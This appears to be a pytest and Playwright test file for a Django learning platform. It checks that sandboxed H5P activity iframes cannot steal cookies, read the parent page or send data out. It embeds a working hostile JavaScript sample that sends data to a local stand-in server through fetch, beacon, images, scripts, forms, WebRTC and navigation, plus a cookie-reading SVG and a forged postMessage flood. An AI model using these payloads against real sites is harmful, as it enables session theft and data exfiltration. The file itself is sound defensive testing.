"""What a hostile activity tries from its frame, in Chromium, reaches nothing. The same one, let out, reaches it all."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import Request, expect

from tests.browser import BrowserPage, browser, chromium, page_as  # noqa: F401
from tests.trainings import h5p_things
from tests.trainings.learners import learner, module_of, path_of, step_of
from trainings.activities import framing, tokens, views
from trainings.models import Enrolment, Step, StepProgress
from trainings.paths.rules import StepKind

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# Each attempt writes what it got; those that leave the page come last.
ATTACK = """
var H5P = H5P || {};
H5P.Devinette = function () {};
H5P.Devinette.prototype.attach = function ($container) {
  var there = %(there)s, got = {};
  function attempt(name, act) {
    try { Promise.resolve(act()).then(function (said) { got[name] = String(said); },
                                      function (fault) { got[name] = 'refused ' + fault.name; });
    } catch (fault) { got[name] = 'refused ' + fault.name; }
  }
  function form(target) {
    var made = document.createElement('form');
    made.action = there + 'form'; made.target = target; made.method = 'post';
    document.body.append(made); made.submit(); return 'sent';
  }
  attempt('cookie', function () { return document.cookie; });
  attempt('parent', function () { return window.parent.document.title; });
  function ask(url, how) { return fetch(url, how).then(function (answer) { return answer.status; }); }
  attempt('fetch', function () { return ask(there + 'fetch', {mode: 'no-cors'}); });
  attempt('home', function () { return ask('/parcours/', {credentials: 'include'}); });
  attempt('beacon', function () { return navigator.sendBeacon(there + 'beacon', 'x'); });
  attempt('picture', function () { new Image().src = there + 'picture'; return 'asked'; });
  attempt('script', function () {
    var script = document.createElement('script'); script.src = there + 'script';
    document.head.append(script); return 'asked';
  });
  attempt('frame', function () { $container.append('<iframe src="' + there + 'frame"></iframe>'); return 'asked'; });
  attempt('window', function () { return window.open(there + 'window') ? 'opened' : 'refused'; });
  attempt('form', function () { return form('_blank'); });
  attempt('rtc', function () {
    var line = new RTCPeerConnection({iceServers: [{urls: 'stun:' + %(stun)s}]});
    line.createDataChannel('x');
    return line.createOffer().then(function (offer) { return line.setLocalDescription(offer); });
  });
  attempt('link', function () {
    var link = document.createElement('link'); link.rel = 'prefetch'; link.href = there + 'link';
    document.head.append(link); return 'asked';
  });
  window.setTimeout(function () {
    window.parent.postMessage({activite: 'vol', got: got}, '*');
    $container.append(H5P.jQuery('<pre>', {id: 'butin', text: JSON.stringify(got)}));
  }, 1500);
  window.setTimeout(function () { attempt('top', function () { window.top.location = there + 'top'; }); }, 3000);
  window.setTimeout(function () { window.location = there + 'self'; }, 3500);
};
"""
OUT = {"fetch", "beacon", "picture", "script", "frame", "window", "form", "link", "top"}


@dataclass
class Elsewhere:
    """Another site, which notes what reaches it."""

    address: str
    stun: str  # where calls ask which way they come
    reached: list[str] = field(default_factory=list)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.reached.append(self.path.strip("/"))
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    calls = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    calls.bind(("127.0.0.1", 0))
    site = Elsewhere(f"http://localhost:{server.server_port}/", f"127.0.0.1:{calls.getsockname()[1]}")

    def hear() -> None:
        with contextlib.suppress(OSError):
            while calls.recv(2048):
                site.reached.append("rtc")

    threading.Thread(target=server.serve_forever, daemon=True).start()
    threading.Thread(target=hear, daemon=True).start()
    yield site
    calls.close()
    server.shutdown()
    server.server_close()


@pytest.fixture
def step(world, elsewhere) -> Step:
    step = step_of(module_of(path_of(world.here.district)), StepKind.PACKAGE, "Une devinette")
    script = ATTACK % {"there": json.dumps(elsewhere.address), "stun": json.dumps(elsewhere.stun)}
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>document.documentElement.id = document.cookie</script></svg>"
    h5p_things.give(step, h5p_things.packed(h5p_things.files(script=script, picture=svg)))
    return step


def opened(page: BrowserPage, enrolment: Enrolment, step: Step) -> None:
    page.context.add_cookies([{"name": "canari", "value": "vu", "url": page.base_url}])
    page.goto(reverse("trainings:step_page", args=[enrolment.path_id, step.pk]))


def loot(page: BrowserPage) -> dict[str, str]:
    return json.loads(page.frame_locator("iframe[data-activite]").locator("#butin").inner_text())


def test_from_its_frame_an_activity_reaches_nothing(world, page_as, step, elsewhere):  # noqa: F811
    page = page_as(world.amina)
    windows: list[object] = []

    def noted(window: object) -> None:
        windows.append(window)

    page.context.on("page", noted)
    opened(page, learner(world.amina, step.module.version), step)
    here = page.url
    got = loot(page)
    page.wait_for_timeout(4000)  # what never comes cannot be waited for
    assert elsewhere.reached == []
    assert windows == []
    assert page.url == here
    refused = {name: said for name, said in got.items() if said.startswith("refused")}
    assert refused.keys() >= {"cookie", "parent", "fetch", "home", "window"}, got
    assert not StepProgress.objects.exists()
    expect(page.get_by_role("heading", name="Une devinette")).to_be_visible()


def test_canary_let_out_it_reaches_it_all(world, page_as, step, elsewhere, settings, monkeypatch):  # noqa: F811
    monkeypatch.setattr(views, "_player_policy", lambda request, files: {})
    monkeypatch.setattr(framing, "may_frame", lambda response, request: response)
    settings.SECURE_CSP = {}
    page = page_as(world.amina)
    opened(page, learner(world.amina, step.module.version), step)
    page.evaluate("""() => {
        const frame = document.querySelector("iframe[data-activite]");
        frame.removeAttribute("sandbox");
        frame.src = frame.src;
    }""")
    got = loot(page)
    assert "canari=vu" in got["cookie"]
    assert got["parent"].startswith("Une devinette")
    assert got["home"] == "200"
    page.until(lambda: set(elsewhere.reached) >= OUT)


def test_a_file_or_a_player_opened_by_itself_runs_nothing(world, page_as, step, elsewhere):  # noqa: F811
    page = page_as(world.amina)
    opened(page, learner(world.amina, step.module.version), step)
    document = step.documents.get()
    token = tokens.token_for(document, world.amina, now=timezone.now())
    page.goto(reverse("trainings:activity_file", args=[token, "content/images/image.svg"]))
    assert page.evaluate("[document.documentElement.tagName, document.documentElement.id, origin]") == [
        "svg",
        "",
        "null",
    ]
    with contextlib.suppress(Exception):
        page.goto(reverse("trainings:activity_player", args=[document.pk]))
    assert "Devinette" not in page.content()
    assert elsewhere.reached == []


FORGED = """
var H5P = H5P || {};
H5P.Devinette = function () {};
H5P.Devinette.prototype.attach = function ($container) {
  function tell(what) { window.parent.postMessage(what, '*'); }
  tell(null); tell('fini'); tell([]); tell({activite: 'fini'}); tell({activite: 'fini', percent: '100'});
  [101, -1, 50.5, NaN, Infinity, {}, [100], '<b>'].forEach(function (percent) {
    tell({activite: 'fini', percent: percent});
  });
  [1e9, '200', NaN, -5].forEach(function (pixels) { tell({activite: 'hauteur', pixels: pixels}); });
  tell({activite: 'fini', percent: 100, csrfmiddlewaretoken: 'x', action: '/deconnexion/', text: 'x'.repeat(1e6)});
  for (var rank = 0; rank < 500; rank += 1) tell({activite: 'fini', percent: rank % 100});
  $container.append(H5P.jQuery('<p>', {text: 'Tout est dit.'}));
};
"""


def test_what_a_frame_says_is_a_height_and_a_number_bounded(world, page_as):  # noqa: F811
    step = step_of(module_of(path_of(world.here.district)), StepKind.PACKAGE, "Une devinette")
    h5p_things.give(step, h5p_things.packed(h5p_things.files(script=FORGED)))
    enrolment = learner(world.amina, step.module.version)
    page = page_as(world.amina)
    sent: list[str] = []

    def noted(request: Request) -> None:
        if request.method == "POST":
            sent.append(request.post_data or "")

    page.page.on("request", noted)
    opened(page, enrolment, step)
    expect(page.get_by_text("100 % d’après l’activité")).to_be_visible()
    page.evaluate("window.postMessage({activite: 'hauteur', pixels: 999}, '*')")  # of another window than the frame
    page.wait_for_timeout(1000)
    assert len(sent) == 1
    assert "percent=100" in sent[0]
    assert "deconnexion" not in sent[0]
    height = page.evaluate("document.querySelector('iframe[data-activite]').style.height")
    assert 160 <= int(height.removesuffix("px")) <= 6000
    assert height != "999px"
    assert page.foreign_requests == []


def test_without_javascript_it_is_said_and_the_step_is_done_by_hand(world, page_as):  # noqa: F811
    step = step_of(module_of(path_of(world.here.district)), StepKind.PACKAGE, "Une devinette")
    h5p_things.give(step)
    enrolment = learner(world.amina, step.module.version)
    page = page_as(world.amina, width=390, javascript=False)
    opened(page, enrolment, step)
    expect(page.locator("main noscript p")).to_be_visible()
    expect(page.locator("iframe")).to_be_hidden()
    page.get_by_role("button", name="J’ai fait cette activité").click()
    expect(page.get_by_role("heading", name="Parcours terminé")).to_be_visible()
    assert StepProgress.objects.get().done_at
